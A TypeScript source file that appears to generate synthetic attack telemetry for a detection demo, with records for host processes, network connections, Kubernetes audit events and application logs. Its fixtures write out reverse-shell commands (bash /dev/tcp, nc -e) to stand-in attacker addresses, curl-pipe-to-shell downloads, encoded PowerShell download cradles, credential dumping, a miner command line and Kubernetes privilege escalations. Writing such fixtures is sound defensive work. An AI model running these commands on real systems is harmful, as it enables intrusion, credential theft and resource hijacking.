// Demo attacks seen in the systems' own telemetry: processes and connections on the hosts, the
// Kubernetes audit log, and the application's logs.
import { campaign, type Campaign } from './campaign.js';
import {
  application,
  K8S_NODE,
  kubeAudit,
  linuxConnection,
  linuxProcess,
  sysmonConnection,
  sysmonProcess,
  syslog,
} from './records.js';

const ENCODED_DOWNLOAD = // IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')
  'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADcALwBhAC4AcABzADEAJwApAA==';

/** In schedule order (a campaign's position picks its attacker addresses). */
export const systemAttacks: readonly Campaign[] = [
  // process
  campaign('process', 'reverse shell from the web server', 3_000, (c) =>
    linuxProcess(c.time, 'web-02', {
      user: 'www-data',
      name: 'bash',
      executable: '/bin/bash',
      command: `bash -i >& /dev/tcp/${c.attacker('198.51.100')}/4444 0>&1`,
      parent: { name: 'php-fpm8.2', executable: '/usr/sbin/php-fpm8.2', command: 'php-fpm: pool www' },
    }),
  ),
  campaign('process', 'Office macro starting encoded PowerShell', 4_500, (c) => ({
    ...sysmonProcess(
      c.time,
      'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      `powershell.exe -NoP -W Hidden -enc ${ENCODED_DOWNLOAD}`,
      'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
      '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\j.doe\\Downloads\\invoice_3391.doc"',
    ),
    OriginalFileName: 'PowerShell.EXE',
  })),
  campaign('process', 'download and execute', 7_500, (c) =>
    linuxProcess(c.time, 'web-01', {
      user: 'www-data',
      name: 'sh',
      executable: '/bin/sh',
      command: `sh -c "curl -fsSL http://${c.attacker('198.51.100')}/install.sh | sh"`,
    }),
  ),
  campaign('process', 'base64-decoded execution', 10_500, (c) =>
    linuxProcess(c.time, 'db-01', {
      user: 'postgres',
      name: 'bash',
      executable: '/bin/bash',
      command: 'bash -c "echo Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC43L3ggfCBzaA== | base64 -d | bash"',
    }),
  ),
  campaign('process', 'crypto miner', 13_500, (c) =>
    linuxProcess(c.time, K8S_NODE, {
      user: 'root',
      name: 'kworker',
      executable: '/tmp/.X11/kworker',
      command:
        '/tmp/.X11/kworker -o stratum+tcp://pool.supportxmr.com:3333 -u 4AdUndXHHZ9pfQj27QPhiQ -p x --donate-level 1',
    }),
  ),
  campaign('process', 'credential dumping', 38_000, (c) =>
    sysmonProcess(
      c.time,
      'C:\\Users\\Public\\m64.exe',
      'm64.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
      'C:\\Windows\\System32\\cmd.exe',
      'cmd.exe',
    ),
  ),
  campaign('process', 'shell history cleared', 44_000, (c) =>
    linuxProcess(c.time, 'web-02', {
      user: 'root',
      name: 'rm',
      executable: '/usr/bin/rm',
      command: 'rm -f /root/.bash_history',
    }),
  ),
  campaign('process', 'cron job piping a download into a shell', 52_000, (c) =>
    syslog(
      c.time,
      'db-01',
      'CRON[22911]',
      `(root) CMD (curl -fsSL http://${c.attacker('198.51.100')}/.x/up.sh | sh)`,
      'cron',
    ),
  ),
  campaign('process', 'netcat reverse shell', 55_000, (c) =>
    linuxProcess(c.time, 'web-01', {
      user: 'www-data',
      name: 'nc',
      executable: '/usr/bin/nc.traditional',
      command: `nc -e /bin/sh ${c.attacker('198.51.100')} 4444`,
    }),
  ),
  // network
  campaign('network', 'backdoor port', 3_500, (c) =>
    linuxConnection(c.time, 'web-02', {
      user: 'www-data',
      name: 'bash',
      executable: '/bin/bash',
      ip: c.attacker('198.51.100'),
      port: 4444,
      source: '10.0.1.13',
    }),
  ),
  campaign('network', 'mining pool connection', 14_000, (c) =>
    linuxConnection(c.time, K8S_NODE, {
      user: 'root',
      name: 'kworker',
      executable: '/tmp/.X11/kworker',
      ip: '198.18.3.3',
      port: 443,
      hostname: 'pool.supportxmr.com',
      source: '10.0.4.11',
    }),
  ),
  campaign('network', 'Tor connection', 16_500, (c) =>
    sysmonConnection(c.time, 'C:\\Users\\j.doe\\AppData\\Local\\Temp\\tor\\tor.exe', '198.18.7.20', 9001),
  ),
  campaign('network', 'outbound SMB to the internet', 46_000, (c) =>
    sysmonConnection(c.time, 'System', '198.18.40.9', 445),
  ),
  // kubernetes
  campaign('kubernetes', 'exec into a pod', 5_000, (c) =>
    kubeAudit(c.time, {
      verb: 'create',
      uri: '/api/v1/namespaces/payments/pods/api-7d9f/exec?command=sh&container=api&stdin=true&tty=true',
      objectRef: { resource: 'pods', subresource: 'exec', namespace: 'payments', name: 'api-7d9f' },
      code: 101,
      sourceIp: c.attacker('198.51.100'),
    }),
  ),
  campaign('kubernetes', 'privileged pod', 11_000, (c) =>
    kubeAudit(c.time, {
      verb: 'create',
      uri: '/api/v1/namespaces/default/pods',
      objectRef: { resource: 'pods', namespace: 'default', name: 'debug-tools' },
      code: 201,
      requestObject: {
        kind: 'Pod',
        metadata: { name: 'debug-tools', namespace: 'default' },
        spec: {
          hostPID: true,
          containers: [{ name: 'tools', image: 'alpine:3.20', securityContext: { privileged: true } }],
        },
      },
    }),
  ),
  campaign(
    'kubernetes',
    'secret reads',
    15_000,
    (c) =>
      c.index === 0
        ? kubeAudit(c.time, {
            verb: 'list',
            uri: '/api/v1/namespaces/payments/secrets',
            objectRef: { resource: 'secrets', namespace: 'payments' },
          })
        : kubeAudit(c.time, {
            verb: 'get',
            uri: '/api/v1/namespaces/payments/secrets/stripe-live-key',
            objectRef: { resource: 'secrets', namespace: 'payments', name: 'stripe-live-key' },
            user: {
              username: 'system:serviceaccount:payments:api',
              groups: ['system:serviceaccounts', 'system:serviceaccounts:payments'],
            },
            sourceIp: '10.244.1.17',
          }),
    2,
    500,
  ),
  campaign('kubernetes', 'cluster-admin granted', 34_000, (c) =>
    kubeAudit(c.time, {
      verb: 'create',
      uri: '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings',
      code: 201,
      objectRef: { resource: 'clusterrolebindings', apiGroup: 'rbac.authorization.k8s.io', name: 'ops-maint' },
      requestObject: {
        kind: 'ClusterRoleBinding',
        metadata: { name: 'ops-maint' },
        roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
        subjects: [{ kind: 'ServiceAccount', name: 'default', namespace: 'default' }],
      },
    }),
  ),
  campaign('kubernetes', 'host file system mounted', 50_000, (c) =>
    kubeAudit(c.time, {
      verb: 'create',
      uri: '/api/v1/namespaces/default/pods',
      objectRef: { resource: 'pods', namespace: 'default', name: 'node-shell' },
      code: 201,
      requestObject: {
        kind: 'Pod',
        spec: {
          containers: [{ name: 'shell', image: 'alpine:3.20', volumeMounts: [{ name: 'host', mountPath: '/host' }] }],
          volumes: [{ name: 'host', hostPath: { path: '/' } }],
        },
      },
    }),
  ),
  // application
  campaign('application', 'SQL syntax error', 2_000, (c) =>
    application(c.time, {
      level: 'ERROR',
      logger: 'app.catalogue.repository',
      status: 'error',
      message:
        "SQLSTATE[42000]: Syntax error or access violation: 1064 You have an error in your SQL syntax; check the manual near ''' UNION SELECT' at line 1",
    }),
  ),
  campaign(
    'application',
    'server error burst',
    17_000,
    (c) =>
      application(c.time, {
        level: 'ERROR',
        logger: 'app.http.middleware',
        status: 500,
        message: `POST /api/v1/orders -> 500 internal error (request ${c.index})`,
      }),
    30,
    300,
  ),
  campaign(
    'application',
    'failed-login burst',
    19_000,
    (c) =>
      application(c.time, {
        level: 'WARN',
        logger: 'com.example.auth.LoginController',
        status: 'denied',
        message: `login failed for user user${c.index}@example.com: invalid credentials (attempt 1 of 10)`,
      }),
    24,
    350,
  ),
  campaign('application', 'admin function denied', 26_000, (c) =>
    application(c.time, {
      level: 'WARN',
      logger: 'app.http.middleware',
      status: 'denied',
      message: 'access denied for user usr_4be1c0a9d2f3 to /admin/users: missing role admin',
    }),
  ),
];
